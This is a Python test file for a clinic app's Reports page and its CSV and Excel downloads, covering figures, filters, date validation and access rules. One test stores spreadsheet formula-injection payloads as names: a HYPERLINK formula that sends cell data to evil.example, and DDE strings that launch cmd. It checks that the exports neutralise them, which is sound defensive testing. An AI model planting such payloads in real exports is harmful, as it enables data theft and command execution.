"""The Reports page and its downloads: the figures, who may see them, CSV and Excel files, dates
that need fixing, and a number of SQL statements that does not grow with the data."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime, time, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from dependency_injector import providers

from clinic.application.catalog.doctors import DoctorFields
from clinic.application.catalog.procedures import ProcedureFields
from clinic.application.catalog.rooms import RoomFields
from clinic.application.patients.save import PatientFields
from clinic.application.scheduling.book import BookingRequest
from clinic.domain.scheduling import AppointmentStatus
from clinic.entrypoints.web.report_chart import nice_ceiling
from clinic.entrypoints.web.views.reports import parse_day
from tests.acting import owner_of
from tests.integration.conftest import Browser
from tests.integration.test_query_counts import count_statements
from tests.licences import grant_licence

MOSCOW = ZoneInfo("Europe/Moscow")
NOW = datetime(2026, 11, 18, 12, 0, tzinfo=MOSCOW)  # a Wednesday; "this month" is November


class FixedClock:
    def now(self) -> datetime:
        return NOW.astimezone(UTC)


class Clinic:
    """A signed-in owner's clinic, and a way to put appointments in its diary."""

    def __init__(self, app, container, language: str = "en") -> None:
        container.clock.override(providers.Object(FixedClock()))
        self.container = container
        self.browser = Browser(app.test_client())
        self.browser.client.environ_base["HTTP_ACCEPT_LANGUAGE"] = language
        self.browser.sign_up()
        self.id = container.account_queries().tenants()[0].id
        container.save_room()(self.id, owner_of(container, self.id), RoomFields("Room 2"))
        container.save_doctor()(self.id, owner_of(container, self.id),
            DoctorFields("Olga Smirnova"))
        with container.uow(self.id) as uow:
            self.rooms = sorted(uow.rooms.list(), key=lambda r: r.name == "Room 2")
            self.doctors = sorted(uow.doctors.list(), key=lambda d: d.name == "Olga Smirnova")
            self.procedure = uow.procedures.list()[0]
        self.patient = container.save_patient()(self.id, owner_of(container, self.id),
            PatientFields("Ivan Petrov", "+14155552671"))

    def book(self, day: date, hour: int, price: str, status: str | None = None,
             minute: int = 0, room: int = 0, doctor: int = 0):
        appointment = self.container.book_appointment()(self.id, BookingRequest(
            self.patient.id, self.rooms[room].id, self.doctors[doctor].id,
            datetime.combine(day, time(hour, minute), MOSCOW), [self.procedure.id],
            price=price, confirm_outside_hours=True, confirm_doctor_overlap=True,
            booked_by=owner_of(self.container, self.id)))
        if status:
            self.container.change_appointment_status()(
                self.id, owner_of(self.container, self.id), appointment.id,
                AppointmentStatus(status))
        return appointment

    def get(self, path: str):
        return self.browser.client.get(path)


def figures(html: str) -> dict[str, str]:
    return dict(re.findall(r'data-figure="([a-z-]+)"[^>]*>([^<]*)<', html))


def report_rows(html: str) -> list[str]:
    table = re.search(r"<table[^>]*data-report-rows.*?</table>", html, re.S)
    assert table, "no list of appointments"
    return re.findall(r'<tr class="report-row[^"]*">.*?</tr>', table.group(0), re.S)


@pytest.fixture
def clinic(app, web_container) -> Clinic:
    return Clinic(app, web_container)


@pytest.fixture
def busy(clinic) -> Clinic:
    """November: two visits that took place, one cancelled, one missed, two planned (one
    of them today, later), and October's visit outside the period."""
    clinic.book(date(2026, 11, 3), 10, "2500")                      # counted (still "scheduled")
    clinic.book(date(2026, 11, 10), 21, "1000.50", "done")          # counted, after hours
    clinic.book(date(2026, 11, 12), 11, "9000", "cancelled")        # not counted
    clinic.book(date(2026, 11, 14), 12, "7000", "no_show")          # not counted
    clinic.book(date(2026, 11, 18), 15, "3000", room=1, doctor=1)   # planned: later today
    clinic.book(date(2026, 11, 25), 9, "4000.25")                   # planned
    clinic.book(date(2026, 10, 30), 10, "800", "done")              # last month
    return clinic


def test_the_figures_count_what_took_place_and_show_the_rest_apart(busy):
    page = busy.get("/reports")
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    assert figures(html) == {"revenue": "$3,500.50", "appointments": "2", "average": "$1,750.25",
                             "planned": "$7,000.25",
                             "planned-count": "2"}
    assert '<span data-figure="planned-count">2</span> appointments ahead' in html
    assert "2 more cancelled or missed, not counted" in html
    rows = report_rows(html)
    assert len(rows) == 6  # cancelled and missed are listed too; October is not
    assert "not counted" in rows[2] and "Cancelled" in rows[2]
    assert "not counted" in rows[3] and "Did not come" in rows[3]
    assert "planned" in rows[4] and "planned" in rows[5]
    assert "$9,000.00" in rows[2] and "Tue, Nov 3" in rows[0] and "21:00" in rows[1]
    assert 'aria-current="true">This month<' in html


def test_the_breakdowns_and_the_chart_show_the_same_figures(busy):
    html = busy.get("/reports").get_data(as_text=True)
    by_doctor = re.search(r"<h2>By doctor</h2>.*?</table>", html, re.S).group(0)
    assert busy.doctors[0].name in by_doctor and "$3,500.50" in by_doctor
    assert busy.doctors[1].name not in by_doctor  # their visit is still planned
    svg = re.search(r"<svg class=\"chart\".*?</svg>", html, re.S).group(0)
    assert 'role="img"' in svg and 'aria-labelledby="chart-svg-title chart-svg-desc"' in svg
    assert "<title id=\"chart-svg-title\">Revenue by day</title>" in svg
    assert svg.count('class="chart__bar"') == 2 and "style=" not in svg
    hidden = re.search(r'<div class="visually-hidden">.*?</table>', html, re.S).group(0)
    assert hidden.count("<tr>") == 1 + 30  # the header and every day of November
    assert "Tue, Nov 3</th><td>1</td><td>$2,500.00</td>" in hidden
    assert "Mon, Nov 2</th><td>0</td><td>$0.00</td>" in hidden


def test_a_long_period_is_drawn_by_week(busy):
    html = busy.get("/reports?period=this_year").get_data(as_text=True)
    assert "Revenue by week" in html
    hidden = re.search(r'<div class="visually-hidden">.*?</table>', html, re.S).group(0)
    assert hidden.count("<tr>") == 1 + 53  # 2026 begins on a Thursday: 53 weeks, some clipped
    assert figures(html)["revenue"] == "$4,300.50"  # October's visit is in the year


def test_presets_doctor_and_room_choose_what_is_counted(busy):
    last_month = busy.get("/reports?period=last_month").get_data(as_text=True)
    assert figures(last_month)["revenue"] == "$800.00"
    assert "Oct 1\u2009–\u200931, 2026" in last_month
    this_week = figures(busy.get("/reports?period=this_week").get_data(as_text=True))
    assert this_week["revenue"] == "$0.00" and this_week["planned"] == "$3,000.00"
    doctor = busy.doctors[1].id
    mine = busy.get(f"/reports?period=this_month&doctor={doctor}").get_data(as_text=True)
    assert figures(mine)["planned"] == "$3,000.00" and len(report_rows(mine)) == 1
    assert f'<option value="{doctor}" selected>' in mine
    room = busy.get(f"/reports?room={busy.rooms[0].id}").get_data(as_text=True)
    assert figures(room)["revenue"] == "$3,500.50" and len(report_rows(room)) == 5
    custom = busy.get("/reports?period=custom&from=2026-11-01&to=2026-11-05")
    assert figures(custom.get_data(as_text=True))["revenue"] == "$2,500.00"
    # the date form sends the preset's own dates back when only the doctor changed
    kept = busy.get(f"/reports?period=this_month&from=2026-11-01&to=2026-11-30&doctor={doctor}")
    assert 'aria-current="true">This month<' in kept.get_data(as_text=True)
    # an unknown doctor or period is ignored rather than an error
    assert busy.get("/reports?period=someday&doctor=nobody").status_code == 200


def test_the_list_is_paged_by_fifty_and_sorted_by_date(clinic):
    for n in range(60):
        day, slot = divmod(n, 12)
        clinic.book(date(2026, 11, 2) + timedelta(days=day), 8 + slot, "100")
    first = report_rows(clinic.get("/reports").get_data(as_text=True))
    assert len(first) == 50 and "Mon, Nov 2" in first[0] and "08:00" in first[0]
    second = clinic.get("/reports?page=2").get_data(as_text=True)
    assert len(report_rows(second)) == 10 and "Page 2 of 2" in second
    newest = report_rows(clinic.get("/reports?sort=newest").get_data(as_text=True))
    assert "Fri, Nov 6" in newest[0] and "19:00" in newest[0]
    assert len(report_rows(clinic.get("/reports?page=9").get_data(as_text=True))) == 0


def test_an_empty_period_shows_zeros_and_says_what_to_do(clinic):
    page = clinic.get("/reports?period=last_week")
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    assert figures(html) == {"revenue": "$0.00", "appointments": "0", "average": "$0.00",
                             "planned": "$0.00",
                             "planned-count": "0"}
    assert "No appointments in this period" in html and "data-report-rows" not in html
    assert 'data-download="csv"' in html and 'data-download="xlsx"' in html


@pytest.mark.parametrize(("query", "field", "message", "typed"), [
    ("from=31.02.2026&to=2026-11-30", "from", "Pick a date, for example", "31.02.2026"),
    ("from=2026-11-01&to=tomorrow", "to", "Pick a date, for example", "tomorrow"),
    ("from=2026-11-30&to=2026-11-01", "to", "The end must not come before the start.", None),
    ("from=2020-01-01&to=2026-01-01", "to", "A period can be at most three years long.", None),
    ("from=&to=2026-11-01", "from", "Pick a date, for example", None),
    ("from=0001-01-01&to=0001-01-02", "from", "Pick a date, for example", "0001-01-01"),
    ("from=1999-12-01&to=1999-12-31", "from", "Pick a date between the years 2000 and 2099.",
     None),
    ("from=2999-12-01&to=2999-12-31", "from", "Pick a date between the years 2000 and 2099.",
     None),
])
def test_dates_to_fix_keep_what_was_typed_and_say_what_is_wrong(clinic, query, field, message,
                                                                 typed):
    page = clinic.get(f"/reports?period=custom&{query}")
    html = page.get_data(as_text=True)
    assert page.status_code == 422
    assert message in html and f'id="f-{field}-error"' in html
    assert re.search(rf'id="f-{field}"[^>]*aria-invalid="true"', html, re.S)
    if typed:
        assert f'value="{typed}"' in html and 'type="text"' in html
    assert "data-figure" not in html and "data-download" not in html
    for kind in ("csv", "xlsx"):
        assert clinic.get(f"/reports/download.{kind}?period=custom&{query}").status_code == 422


def test_people_type_dates_the_way_they_write_them():
    assert parse_day("2026-11-30") == date(2026, 11, 30)
    assert parse_day(" 30.11.2026 ") == date(2026, 11, 30) == parse_day("30/11/2026")
    assert parse_day("1.2.2026") == date(2026, 2, 1)
    for bad in ("", "31.02.2026", "2026-13-01", "0001-01-01", "30.11.26", "soon"):
        assert parse_day(bad) is None


def test_gridlines_fall_on_round_amounts():
    assert [nice_ceiling(Decimal(v)) for v in ("0", "0.4", "1", "7", "13", "180", "2100",
                                                "24000", "51000")] == [
        0, 1, 1, 10, 20, 200, 2500, 25000, 100000]


def test_staff_may_not_see_reports_nor_download_them(app, web_container, clinic):
    owner_id = web_container.team_queries().members(clinic.id)[0].user_id
    grant_licence(web_container, clinic.id, seats=1)
    links: list[str] = []
    web_container.invite_member()(clinic.id, owner_id, "sam@example.com", "staff",
                                  lambda token: links.append(token) or token)
    web_container.accept_invitation()(links[0], name="Sam", password="correct horse")
    staff = Browser(app.test_client())
    staff.sign_in("sam@example.com")
    for path in ("/reports", "/reports/download.csv", "/reports/download.xlsx"):
        assert staff.client.get(path).status_code == 403, path
        assert clinic.get(path).status_code == 200, path


def _csv(response) -> list[list[str]]:
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads the Cyrillic right
    text = data.decode("utf-8-sig")
    delimiter = ";" if text.split("\r\n")[0].count(";") > 3 else ","
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def test_the_csv_in_english_uses_commas_and_a_decimal_point(busy):
    chunks = list(busy.browser.client.get("/reports/download.csv",
                                          headers={"Accept-Encoding": "gzip"}).response)
    assert all(isinstance(chunk, bytes) for chunk in chunks)  # a WSGI server wants bytes
    response = busy.get("/reports/download.csv?period=this_month")
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and response.is_streamed
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == \
        'attachment; filename="chairside-report-2026-11-01-2026-11-30.csv"'
    text = response.get_data().decode("utf-8-sig")
    assert text.startswith("Date,Time,Patient,Doctor,Room,Procedures,Price (USD),Status,")
    rows = _csv(response)
    assert rows[0] == ["Date", "Time", "Patient", "Doctor", "Room", "Procedures", "Price (USD)",
                       "Status", "Counted"]
    assert len(rows) == 1 + 6 + 1
    assert rows[1][:3] == ["2026-11-03", "10:00", "Ivan Petrov"]
    assert rows[1][6:] == ["2500.00", "Scheduled", "yes"]
    assert rows[3][6:] == ["9000.00", "Cancelled", "no"]
    assert rows[6][6:] == ["4000.25", "Scheduled", "planned"]
    assert rows[-1] == ["Total counted", "", "", "", "", "", "3500.50", "", "2"]


def test_the_csv_in_russian_uses_semicolons_and_a_decimal_comma(app, web_container):
    clinic = Clinic(app, web_container, language="ru")
    clinic.book(date(2026, 11, 3), 10, "2500,50")
    clinic.book(date(2026, 11, 4), 10, "1000", "no_show")
    response = clinic.get("/reports/download.csv")
    text = response.get_data().decode("utf-8-sig")
    assert text.startswith("Дата;Время;Пациент;Врач;Кабинет;Процедуры;Цена (RUB);")
    rows = _csv(response)
    assert rows[1][:2] == ["03.11.2026", "10:00"]
    assert rows[1][6:] == ["2500,50", "Записан", "да"]
    assert rows[2][6:] == ["1000,00", "Не пришёл", "нет"]
    assert rows[-1][0] == "Итого учтено" and rows[-1][6:] == ["2500,50", "", "1"]
    assert all(re.search("[А-Яа-я]", cell) for cell in rows[0])


def test_the_xlsx_has_real_dates_numbers_and_a_totals_row(busy):
    response = busy.get("/reports/download.xlsx?period=this_month")
    assert response.status_code == 200
    assert response.mimetype == \
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert 'filename=chairside-report-2026-11-01-2026-11-30.xlsx' in \
        response.headers["Content-Disposition"]
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
    sheet = book.active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Date", "Time", "Patient", "Doctor", "Room", "Procedures", "Price (USD)",
                       "Status", "Counted")
    assert all(cell.font.bold for cell in sheet[1])
    assert len(rows) == 1 + 6 + 1
    first = sheet[2]
    assert first[0].value == datetime(2026, 11, 3) and first[0].is_date
    assert first[1].value == time(10, 0) and first[1].number_format == "HH:MM"
    assert first[6].value == 2500 and first[6].number_format == "#,##0.00"
    assert rows[2][6] == pytest.approx(1000.5) and rows[2][7] == "Done"
    assert rows[-1] == ("Total counted", None, None, None, None, None, pytest.approx(3500.5),
                        None, 2)
    assert sheet[len(rows)][0].font.bold and sheet[len(rows)][6].font.bold


HOSTILE = {"patient": '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
           "doctor": "+cmd|' /C calc'!A0", "room": "-2+3+cmd|' /C calc'!A0",
           "procedure": "@SUM(1+1)*cmd|' /C calc'!A0"}


@pytest.mark.parametrize("language", ["en", "ru"])
def test_names_that_look_like_formulas_download_as_text_and_prices_as_numbers(
        app, web_container, language):
    clinic = Clinic(app, web_container, language)
    container = clinic.container
    clinic.patient = container.save_patient()(clinic.id, owner_of(container, clinic.id),
        PatientFields(HOSTILE["patient"], "+14155552672"))
    container.save_doctor()(clinic.id, owner_of(container, clinic.id),
        DoctorFields(HOSTILE["doctor"]), clinic.doctors[1].id)
    container.save_room()(clinic.id, owner_of(container, clinic.id),
        RoomFields(HOSTILE["room"]), clinic.rooms[1].id)
    clinic.procedure = container.save_procedure()(clinic.id, owner_of(container, clinic.id),
        ProcedureFields(
        HOSTILE["procedure"], "1500", "30"))
    clinic.book(date(2026, 11, 3), 10, "1500", room=1, doctor=1)
    typed = [HOSTILE["patient"], HOSTILE["doctor"], HOSTILE["room"], HOSTILE["procedure"]]

    response = clinic.get("/reports/download.xlsx?period=this_month")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active  # formulas kept
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row
                if cell.data_type == "f"]
    assert formulas == []
    assert [cell.value for cell in sheet[2][2:6]] == typed  # as typed, not a character more
    assert sheet[2][6].value == 1500 and sheet[2][6].data_type == "n"

    rows = _csv(clinic.get("/reports/download.csv?period=this_month"))
    assert rows[1][2:6] == ["'" + text for text in typed]
    assert rows[1][6] == ("1500,00" if language == "ru" else "1500.00")
    assert rows[-1][6] == rows[1][6] and rows[-1][8] == "1"


def test_an_empty_period_downloads_a_header_and_a_zero_total(clinic):
    rows = _csv(clinic.get("/reports/download.csv?period=last_week"))
    assert len(rows) == 2 and rows[-1][6:] == ["0.00", "", "0"]
    book = openpyxl.load_workbook(io.BytesIO(
        clinic.get("/reports/download.xlsx?period=last_week").get_data()))
    assert list(book.active.iter_rows(values_only=True))[-1][-1] == 0


def test_the_page_costs_the_same_statements_with_one_appointment_or_sixty(clinic):
    clinic.book(date(2026, 11, 2), 8, "100")
    engine = clinic.container.engine()
    pages = ["/reports", "/reports?period=this_year", "/reports?sort=newest&page=1",
             f"/reports?doctor={clinic.doctors[0].id}"]

    def counts() -> list[int]:
        result = []
        for page in pages:
            with count_statements(engine) as statements:
                assert clinic.get(page).status_code == 200, page
            result.append(len(statements))
        return result

    before = counts()
    for n in range(1, 60):
        day, slot = divmod(n, 12)
        clinic.book(date(2026, 11, 2) + timedelta(days=day), 8 + slot, "100",
                    "cancelled" if n % 7 == 0 else None, room=n % 2, doctor=n % 2)
    assert counts() == before
    assert max(before) <= 11  # 10, and one for the reminders' figures (issue 19)
